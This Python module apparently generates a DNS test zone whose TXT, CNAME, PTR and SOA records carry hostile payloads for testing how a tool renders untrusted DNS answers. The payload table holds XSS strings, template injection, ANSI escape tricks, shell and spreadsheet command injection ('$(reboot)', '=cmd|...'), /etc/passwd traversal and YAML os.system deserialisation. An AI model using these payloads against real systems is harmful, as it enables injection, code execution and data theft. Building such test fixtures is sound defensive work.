"""Hostile answers: what a stranger's zone may contain to break a page, a feed or a terminal.

`ANSWERS` is the table; `zone_file` is what NSD serves. Every payload is served as TXT; those that
fit into a name are served as CNAME, PTR and SOA as well. Text is bytes on the wire (RFC 1035
section 3.3.14), and so are the labels of a name (RFC 2181 section 11).
"""

from dataclasses import dataclass
from typing import Final

ZONE: Final = "hostile.example"
_REVERSE: Final = "113.0.203.in-addr.arpa"
_STRING = 255
_LABEL = 63
_NAME = 230
"""Bytes of payload in a name: with its labels' lengths and the zone, 255 (RFC 1035 section 3.1)."""

PAYLOADS: Final[tuple[tuple[str, bytes], ...]] = (
    ("script element", b"<script>document.title='owned'</script>"),
    ("script element in odd case", b"<ScRiPt >document.title='owned'</sCrIpT\t>"),
    ("nested script", b"<scr<script>ipt>document.title='owned'</scr</script>ipt>"),
    ("image with an error handler", b"<img src=x onerror=\"document.title='owned'\">"),
    ("svg that loads", b"<svg/onload=document.title='owned'>"),
    ("frame with a document", b"<iframe srcdoc=\"<script>top.document.title='owned'</script>\">"),
    ("style that hides the page", b"<style>*{display:none}</style>"),
    ("link to a foreign style", b'<link rel=stylesheet href="//hostile.example/x.css">'),
    ("base that moves all links", b'<base href="https://hostile.example/">'),
    ("refresh", b'<meta http-equiv="refresh" content="0;url=https://hostile.example/">'),
    ("form", b"<form action=https://hostile.example><input autofocus onfocus=alert(1)>"),
    ("closing the figure", b"</pre></code></figure></article><h1>owned</h1>"),
    ("closing a text area and a title", b"</textarea></title></noscript><b>owned</b>"),
    ("out of a quoted attribute", b'" onmouseover="document.title=\'owned\'" x="'),
    ("out of a single-quoted attribute", b"' onmouseover='document.title=1' x='"),
    ("out of an unquoted attribute", b"x onmouseover=document.title=1 tabindex=1"),
    ("javascript link", b"javascript:document.title='owned'"),
    ("javascript link with a tab", b"java\tscript:document.title='owned'"),
    ("data link", b"data:text/html,<script>alert(1)</script>"),
    ("Markdown link", b"[click](javascript:alert(1))"),
    ("Markdown image", b"![x](https://hostile.example/pixel.png)"),
    ("Markdown auto-link", b"<https://hostile.example/> www.hostile.example"),
    ("Markdown heading and rule", b"\n# owned\n\n---\n\n* * *\n"),
    ("Markdown table", b"| a | b |\n|---|---|\n| owned | x |"),
    ("backticks", b"```\n</code>\n```\n`` ` ``"),
    ("a probe fence", b"\n```probe\ndns: hostile.example\n```\n"),
    ("Jinja2 expression", b"{{ 7*7 }}{{ config.__class__.__init__.__globals__ }}"),
    ("Jinja2 statement", b"{% for x in range(9) %}owned{% endfor %}{# gone #}"),
    ("attribute list", b'{: onclick="document.title=1" .owned #owned }'),
    ("admonition and snippet", b'!!! danger "owned"\n    x\n--8<-- "mkdocs.yml"'),
    ("comment that opens", b"<!-- the rest is gone"),
    ("comment and excerpt mark", b"--><!-- more --><b>owned</b>"),
    ("CDATA and processing instruction", b"]]><![CDATA[<?xml version='1.0'?><!DOCTYPE x>"),
    ("entities", b"&lt;script&gt;&amp;lt;&#60;b&#x3e;&NewLine;&colon;&lpar;"),
    ("entity without an end", b"&ltscript&gtx&amp"),
    ("ANSI colour and title", b"\x1b[31mred\x1b[0m\x1b]0;owned\x07"),
    ("ANSI that clears and moves", b"\x1b[2J\x1b[H\x1b[1A\x1b[2Kowned\r\x08\x08"),
    ("ANSI hyperlink and paste", b"\x1b]8;;https://hostile.example\x1b\\x\x1b[200~rm\n"),
    ("NUL", b"before\x00after"),
    ("C0", bytes(range(1, 32)) + b"\x7f"),
    ("C1 as UTF-8", b"\xc2\x9b31m\xc2\x85\xc2\x9d0;owned\xc2\x9c"),
    ("C1 as bytes", b"\x9b31mred\x9b0m\x85"),
    ("bidi override", "\u202etxt.exe\u202c \u2066a\u2069\u200f\u061c".encode()),
    ("unfinished bidi", ("\u202e" * 40 + "gnol").encode()),
    ("zero width", "pay\u200bpal\u200c.\u200d\ufeffcom\u2060\u00ad\u180e".encode()),
    ("byte order mark", b"\xef\xbb\xbfstart\xff\xfe"),
    ("line and paragraph separator", "a\u2028b\u2029c\u0085d\x0be\x0cf".encode()),
    ("UTF-8 cut short", b"abc\xe6\x97"),
    ("UTF-8 that is none", b"\x80\xbf\xfe\xff\xc3\x28\xf5\x90\x80\x80"),
    ("overlong UTF-8", b"\xc0\xbcscript\xc0\xbe\xe0\x80\xbc\xf0\x80\x80\xbc"),
    ("surrogate halves", b"\xed\xa0\xbc\xed\xbc\x8a\xed\xb0\x80"),
    ("private use and noncharacters", "\ue000\uf8ff\U000f0000\ufffe\U0010ffff".encode()),
    ("tags and variation selectors", "x\U000e0001\U000e0041\U000e007f\ufe0f".encode()),
    ("Zalgo", ("o" + "\u0300\u0301\u0302\u0303\u0304\u0306\u0307\u0308\u0489" * 8).encode()),
    ("right to left", "مرحبا <b>שלום</b> 123".encode()),
    ("emoji with joiners", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿🇯🇵".encode()),
    ("homograph", "аррӏе.example раураl.example".encode()),
    ("Shift_JIS", "表示ソ<script>".encode("shift_jis")),
    ("ISO-2022-JP that never ends", b"\x1b$B8-<script>8-"),
    ("UTF-7", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("UTF-16", "<script>".encode("utf-16-le")),
    ("a shell's and a spreadsheet's", b"$(reboot)`reboot`;|&& =cmd|'/c calc'!A0 %s%n"),
    ("paths", b"../../../../etc/passwd\\..\\..\\x"),
    ("JSON and JavaScript strings", b'","owned":{"__proto__":1}}</script>\\u003cb\\u003e'),
    ("YAML", b"- !!python/object/apply:os.system ['id']\n--- &a *a"),
    ("the placeholder of a figure", b'<div data-probe="0"></div><!--probe-0-->'),
    ("no text at all", b""),
    ("only white space", b" \t \n \r\n "),
    ("one long word", b"W" * 4000),
    ("long line of wide letters", ("日" * 1300).encode()),
    ("many lines", b"line\n" * 2000),
    ("deep nesting", b"<div>" * 600 + b"((((" * 400),
    ("64 kB", b"<i>0123456789abcdef</i>&" * 2650),
    ("every byte", bytes(range(256))),
    ("a name of full length", bytes(range(26, 256))),
)


@dataclass(frozen=True, slots=True)
class Answer:
    """One hostile answer: ask for `name` and `type`, and `content` is in what comes back."""

    name: str
    type: str
    """TXT: the strings joined. CNAME, PTR: the labels of the target, joined without dots, before
    `end.hostile.example`, in lower case, as NSD keeps names. SOA: mname and rname alike."""
    content: bytes
    why: str


def _fits_a_name(content: bytes) -> bool:
    return 0 < len(content) <= _NAME


_SHORT = tuple((why, content.lower()) for why, content in PAYLOADS if _fits_a_name(content))
_SOA = tuple(f"soa{number}.{ZONE}" for number in range(1, len(_SHORT) + 1))

ZONES: Final[tuple[str, ...]] = (ZONE, _REVERSE, *_SOA)
"""The zones that hold them, for the name servers' tables."""

ANSWERS: Final[tuple[Answer, ...]] = (
    *(Answer(f"txt{n}.{ZONE}", "TXT", c, why) for n, (why, c) in enumerate(PAYLOADS, 1)),
    *(Answer(f"cname{n}.{ZONE}", "CNAME", c, why) for n, (why, c) in enumerate(_SHORT, 1)),
    *(Answer(f"{n}.{_REVERSE}", "PTR", c, why) for n, (why, c) in enumerate(_SHORT, 1)),
    *(Answer(zone, "SOA", c, why) for zone, (why, c) in zip(_SOA, _SHORT, strict=True)),
)


def _pieces(content: bytes, size: int) -> list[bytes]:
    return [content[at : at + size] for at in range(0, len(content), size)] or [b""]


def _escaped(content: bytes) -> str:
    r"""Every byte as \DDD (RFC 1035 section 5.1): none then means anything to the zone's parser."""
    return "".join(f"\\{byte:03d}" for byte in content)


def _target(content: bytes) -> str:
    labels = ".".join(_escaped(label) for label in _pieces(content, _LABEL))
    return f"{labels}.end.{ZONE}."


def _record(answer: Answer) -> str:
    if answer.type == "TXT":
        strings = " ".join(f'"{_escaped(part)}"' for part in _pieces(answer.content, _STRING))
        return f"{answer.name}. TXT {strings}\n"
    if answer.type == "SOA":
        target = _target(answer.content)
        return f"{answer.name}. SOA {target} {target} 2026110100 3600 600 604800 60\n"
    return f"{answer.name}. {answer.type} {_target(answer.content)}\n"


def zone_file(zone: str) -> str:
    """The text of one of `ZONES`, as NSD reads it."""
    head = "$TTL 60\n"
    if zone not in _SOA:
        head += (
            "@ SOA ns1.data-hotel.net. hostmaster.data-hotel.net. 2026110100 3600 600 604800 60\n"
        )
    head += "@ NS ns1.data-hotel.net.\n@ NS ns2.data-hotel.net.\n"
    if zone == ZONE:
        # The targets of the CNAMEs lead to an address, whatever they are called.
        head += "*.end A 192.0.2.99\n"
        head += "".join(f"{s}. NS ns1.data-hotel.net.\n{s}. NS ns2.data-hotel.net.\n" for s in _SOA)
        return head + "".join(_record(a) for a in ANSWERS if a.type in ("TXT", "CNAME"))
    if zone == _REVERSE:
        return head + "".join(_record(a) for a in ANSWERS if a.type == "PTR")
    return head + "".join(_record(a) for a in ANSWERS if a.name == zone)
